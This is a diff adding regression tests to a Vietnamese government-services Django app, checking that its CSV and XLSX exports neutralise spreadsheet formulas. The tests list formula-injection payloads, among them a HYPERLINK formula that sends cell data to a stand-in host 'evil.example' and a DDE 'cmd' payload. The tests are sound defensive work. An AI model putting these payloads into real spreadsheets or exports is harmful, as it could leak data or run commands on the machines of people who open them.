@@ -581,3 +581,73 @@ def test_the_back_office_offers_and_accepts_only_agencies_of_the_process(
     assert "không tham gia quy trình" in r.content.decode()
     d.refresh_from_db()
     assert d.current_agency == agency
+
+
+# --- exports: no cell a spreadsheet would run as a formula ---------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _read_csv(response) -> list[list[str]]:
+    import csv
+    import io
+
+    text = response.content.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def _read_xlsx(response):
+    import io
+
+    from openpyxl import load_workbook
+
+    return load_workbook(io.BytesIO(response.content)).active
+
+
+def test_table_export_neutralises_formulas_in_csv_and_xlsx():
+    from chinhquyenso.core.exports import table_response
+
+    rows = [[text, 5, -3] for text in HOSTILE] + [["Bình thường", 1, 2], ["a\x0bb", 0, 0]]
+    csv_rows = _read_csv(table_response("t", ["Tiêu đề", "Số", "Âm"], rows, "csv"))
+    for text, row in zip(HOSTILE, csv_rows[1:], strict=False):
+        assert row[0] == "'" + text
+    assert csv_rows[7][0] == "Bình thường" and csv_rows[2][2] == "-3"
+    ws = _read_xlsx(table_response("t", ["Tiêu đề", "Số", "Âm"], rows, "xlsx"))
+    for i, text in enumerate(HOSTILE, start=2):
+        cell = ws.cell(row=i, column=1)
+        assert cell.data_type == "s" and cell.value == "'" + text
+    assert ws.cell(row=2, column=3).value == -3 and ws.cell(row=2, column=3).data_type == "n"
+    assert ws.cell(row=9, column=1).value == "ab"  # a control character XML cannot hold
+
+
+@pytest.mark.django_db
+def test_a_complaint_titled_like_a_formula_is_text_in_the_monitoring_exports(people, agency):
+    from chinhquyenso.complaints.services import submit_complaint
+
+    title = '=HYPERLINK("http://evil.example/","Xem")'
+    submit_complaint(
+        category="procedure",
+        title=title,
+        content="Nội dung phản ánh đủ dài để được tiếp nhận.",
+        agency=agency.code,
+        contact={"name": "Lê Văn Cường", "phone": "0912000111"},
+    )
+    monitor = _signed_in(people["monitor"])
+    url = "/giam-sat/chi-tiet"
+    params = {"indicator": "5.1", "period": "2026", "part": "all"}
+    r = monitor.get(url, {**params, "format": "csv"})
+    assert r.status_code == 200, r.content[:500]
+    cells = [c for row in _read_csv(r) for c in row]
+    assert "'" + title in cells and title not in cells
+    r = monitor.get(url, {**params, "format": "xlsx"})
+    ws = _read_xlsx(r)
+    found = [c for row in ws.iter_rows() for c in row if c.value == "'" + title]
+    assert found and all(c.data_type == "s" for c in found)
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
